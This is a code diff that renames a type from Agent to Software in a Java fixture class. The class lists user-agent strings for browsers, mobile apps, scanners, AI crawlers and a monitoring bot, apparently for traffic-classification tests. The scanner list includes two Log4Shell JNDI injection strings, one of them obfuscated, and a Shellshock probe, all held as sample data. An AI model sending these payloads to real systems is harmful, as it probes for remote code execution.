@@ -7,9 +7,9 @@ import java.util.stream.Stream;
 
 /** User agents as servers see them. */
 final class Agents {
-    static final Agent[] BROWSERS = browsers();
+    static final Software[] BROWSERS = browsers();
 
-    static final Agent[] APPS = {
+    static final Software[] APPS = {
         library("okhttp/4.12.0", "okhttp"),
         phone("ExampleShop/5.8.1 (iPhone; iOS 18.1; Scale/3.00)"),
         phone("ExampleShop/412 CFNetwork/1568.200.51 Darwin/24.1.0"),
@@ -20,18 +20,18 @@ final class Agents {
     };
 
     /** What scanners call themselves; null is nothing at all. */
-    static final Agent[] SCANNERS = {
-        Agent.robot(null, "-", "unknown"),
-        Agent.robot("Mozilla/5.0 zgrab/0.x", "zgrab", "scanner"),
+    static final Software[] SCANNERS = {
+        Software.robot(null, "-", "unknown"),
+        Software.robot("Mozilla/5.0 zgrab/0.x", "zgrab", "scanner"),
         library("python-requests/2.27.1", "python-requests"),
-        Agent.robot(
+        Software.robot(
                 "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "CensysInspect", "scanner"),
         library("Go-http-client/1.1", "Go-http-client"),
         library("curl/7.68.0", "curl"),
-        Agent.robot("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan", "scanner"),
-        Agent.person("${jndi:ldap://198.51.100.23:1389/Exploit}", "other"),
-        Agent.person("${${lower:j}ndi:${lower:l}dap://203.0.113.99/a}", "other"),
-        Agent.person("() { :; }; echo \"vulnerable\"", "other"),
+        Software.robot("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan", "scanner"),
+        Software.person("${jndi:ldap://198.51.100.23:1389/Exploit}", "other"),
+        Software.person("${${lower:j}ndi:${lower:l}dap://203.0.113.99/a}", "other"),
+        Software.person("() { :; }; echo \"vulnerable\"", "other"),
     };
 
     private static final String GECKO = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko";
@@ -70,28 +70,29 @@ final class Agents {
 
     static final Bot[] AI_CRAWLERS = {
         new Bot(
-                Agent.robot(GECKO + "; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "ai_training"),
+                Software.robot(
+                        GECKO + "; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "ai_training"),
                 new Network("20.171.207", "US"),
                 true),
         new Bot(
-                Agent.robot(
+                Software.robot(
                         GECKO + "; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ClaudeBot", "ai_training"),
                 new Network("216.73.216", "US"),
                 false),
         new Bot(
-                Agent.robot(
+                Software.robot(
                         GECKO + "); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
                         "OAI-SearchBot",
                         "ai_search"),
                 new Network("51.8.102", "US"),
                 true),
         new Bot(
-                Agent.robot(
+                Software.robot(
                         GECKO + "); compatible; ChatGPT-User/1.0; +https://openai.com/bot", "ChatGPT-User", "ai_fetch"),
                 new Network("9.129.0", "GB"),
                 true),
         new Bot(
-                Agent.robot(
+                Software.robot(
                         "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
                                 + " (compatible; Bytespider; spider-feedback@bytedance.com)",
                         "Bytespider",
@@ -101,7 +102,7 @@ final class Agents {
     };
 
     static final Bot MONITOR = new Bot(
-            Agent.robot(
+            Software.robot(
                     "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                     "UptimeRobot",
                     "monitoring"),
@@ -116,7 +117,7 @@ final class Agents {
      * @param network where it is seen
      * @param published whether its operator publishes this network as the robot's
      */
-    record Bot(Agent agent, Network network, boolean published) {}
+    record Bot(Software agent, Network network, boolean published) {}
 
     /** Whether a robot's operator publishes where it is. */
     static boolean isPublished(String bot) {
@@ -125,24 +126,24 @@ final class Agents {
                 .anyMatch(one -> one.published() && one.agent().bot().equals(bot));
     }
 
-    private static Agent search(String text, String name) {
-        return Agent.robot(text, name, "search");
+    private static Software search(String text, String name) {
+        return Software.robot(text, name, "search");
     }
 
-    private static Agent library(String text, String name) {
-        return Agent.robot(text, name, "library");
+    private static Software library(String text, String name) {
+        return Software.robot(text, name, "library");
     }
 
-    private static Agent phone(String text) {
-        return Agent.person(text, "mobile");
+    private static Software phone(String text) {
+        return Software.person(text, "mobile");
     }
 
-    private static Agent desktop(String text) {
-        return Agent.person(text, "desktop");
+    private static Software desktop(String text) {
+        return Software.person(text, "desktop");
     }
 
-    private static Agent[] browsers() {
-        List<Agent> agents = new ArrayList<>();
+    private static Software[] browsers() {
+        List<Software> agents = new ArrayList<>();
         String[] desktops = {"Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"};
         for (int version = 126; version <= 131; version++) {
             for (String desktop : desktops) {
@@ -166,6 +167,6 @@ final class Agents {
             agents.add(desktop("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15"
                     + " (KHTML, like Gecko) Version/17." + minor + " Safari/605.1.15"));
         }
-        return agents.toArray(Agent[]::new);
+        return agents.toArray(Software[]::new);
     }
 }
